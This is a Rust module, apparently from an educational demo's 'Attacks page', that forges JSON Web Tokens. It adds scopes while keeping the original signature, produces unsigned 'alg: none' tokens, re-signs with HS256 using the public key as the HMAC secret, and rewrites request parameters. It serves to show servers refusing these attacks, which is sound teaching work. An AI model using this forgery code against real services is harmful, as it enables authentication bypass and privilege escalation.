//! What the attacker does to tokens and requests on the Attacks page: change a claim and
//! keep the signature, strip the signature (`alg: none`), sign with HS256 using the public
//! key as the HMAC secret, change a request's parameters. Plain functions, tested on their
//! own; the servers' refusals are what the page shows.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use hmac::{Hmac, Mac};
use serde_json::Value;
use sha2::Sha256;
use shared::form::{form_decode, form_encode};
use shared::jwt;

/// The header and claims of a compact JWS (decoded as the page shows them), and its
/// signature as sent.
fn split(token: &str) -> Option<(Value, Value, &str)> {
    let decoded = jwt::decode(token)?;
    let (_, signature) = token.rsplit_once('.')?;
    Some((decoded.header, decoded.claims, signature))
}

fn encode(value: &Value) -> String {
    URL_SAFE_NO_PAD.encode(value.to_string())
}

/// The token with `extra` added to its `scope` claim and the original signature kept: what
/// an attacker who wants more rights than granted would send (RFC 9068 §4: the resource
/// server must verify the signature, and this one no longer matches).
pub fn with_added_scope(token: &str, extra: &str) -> Option<String> {
    let (header, mut claims, signature) = split(token)?;
    let scope = claims["scope"].as_str().unwrap_or_default();
    claims["scope"] = Value::from(format!("{scope} {extra}").trim().to_owned());
    Some(format!(
        "{}.{}.{signature}",
        encode(&header),
        encode(&claims)
    ))
}

/// The same claims with `"alg": "none"` and no signature (RFC 7519 §6: an "unsecured JWT";
/// RFC 8725 §3.1: a verifier must not accept it).
pub fn unsigned(token: &str) -> Option<String> {
    let (header, claims, _) = split(token)?;
    let header = serde_json::json!({"alg": "none", "typ": header["typ"]});
    Some(format!("{}.{}.", encode(&header), encode(&claims)))
}

/// The same claims signed with HS256, using `public_key` (which anyone can read in the
/// JWKS) as the HMAC secret: the algorithm-confusion attack (RFC 8725 §2.1). A verifier that
/// takes the algorithm from the token and the key from its key set would accept it.
pub fn signed_hs256_with(token: &str, public_key: &[u8]) -> Option<String> {
    let (header, claims, _) = split(token)?;
    let header = serde_json::json!({"alg": "HS256", "typ": header["typ"], "kid": header["kid"]});
    let signing_input = format!("{}.{}", encode(&header), encode(&claims));
    let mut mac = Hmac::<Sha256>::new_from_slice(public_key).ok()?;
    mac.update(signing_input.as_bytes());
    let signature = URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes());
    Some(format!("{signing_input}.{signature}"))
}

/// The public key bytes (`x`) of the key `kid` in a JWKS document (RFC 8037 §2: an OKP
/// key's `x` is the base64url public key).
pub fn public_key_of(jwks: &str, kid: &str) -> Option<Vec<u8>> {
    let jwks: Value = serde_json::from_str(jwks).ok()?;
    let key = jwks["keys"]
        .as_array()?
        .iter()
        .find(|key| key["kid"] == kid)?;
    URL_SAFE_NO_PAD.decode(key["x"].as_str()?).ok()
}

/// `url` with query parameters replaced (`Some`), removed (`None`) or added, in order.
pub fn with_params(url: &str, changes: &[(&str, Option<&str>)]) -> String {
    let (base, query) = url.split_once('?').unwrap_or((url, ""));
    let mut pairs = form_decode(query);
    for (name, value) in changes {
        match value {
            Some(value) => match pairs.iter_mut().find(|(n, _)| n == name) {
                Some(pair) => (*value).clone_into(&mut pair.1),
                None => pairs.push(((*name).to_owned(), (*value).to_owned())),
            },
            None => pairs.retain(|(n, _)| n != name),
        }
    }
    let pairs: Vec<(&str, &str)> = pairs
        .iter()
        .map(|(n, v)| (n.as_str(), v.as_str()))
        .collect();
    format!("{base}?{}", form_encode(&pairs))
}
